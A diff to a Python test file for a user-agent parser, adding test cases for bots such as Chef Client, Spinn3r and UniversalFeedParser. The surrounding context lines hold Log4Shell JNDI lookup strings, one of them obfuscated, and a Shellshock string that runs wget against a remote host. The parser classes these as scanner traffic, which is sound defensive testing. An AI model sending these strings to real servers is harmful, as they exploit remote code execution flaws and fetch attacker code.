@@ -100,6 +100,12 @@ def test_a_bot_has_name_kind_and_purpose(user_agent: str, expected: Bot) -> None
         # By the address of the operator.
         ("Drupal (+http://drupal.org/)", "Drupal"),
         ("PeerTube/5.2.0 (+https://peertube.example)", "PeerTube"),
+        ("Chef Client/10.18.2 (ruby-1.9.3; ohai-6.16.0; x86_64-linux; +http://opscode.com)", "Chef Client"),
+        (
+            "Mozilla/5.0 (X11; U; Linux x86_64; rv:1.9.0.19; aggregator:Spinn3r (Spinn3r 3.1);"
+            " http://spinn3r.com/robot) Gecko/2010040121 Firefox/3.0.19",
+            "Spinn3r",
+        ),
         ("Pinterest/0.2 (+http://www.pinterest.com/)", "Pinterest"),
         ("ExampleFetch 1.2 (+mailto:someone@example.org)", "ExampleFetch"),
         ("Mozilla/5.0 (compatible; +http://www.example.org/about)", "example.org"),
@@ -148,6 +154,7 @@ def test_who_calls_itself_a_bot_is_one(user_agent: str, name: str) -> None:
         ("${jndi:ldap://192.0.2.1/a}", "${jndi", "scanner"),
         ("t('${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}')", "${${", "scanner"),
         ('() { :; }; /bin/bash -c "wget http://192.0.2.1/a"', "() {", "scanner"),
+        ("UniversalFeedParser/4.2 +http://feedparser.org/", "UniversalFeedParser", "feed-reader"),
         ("FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)", "FeedFetcher-Google", "feed-reader"),
         ("mediapartners-google", "mediapartners-google", "advertising"),
         (ON_CHROME.format("Bluesky Cardyb/1.1; +mailto:support@bsky.app"), "Bluesky Cardyb", "social-preview"),
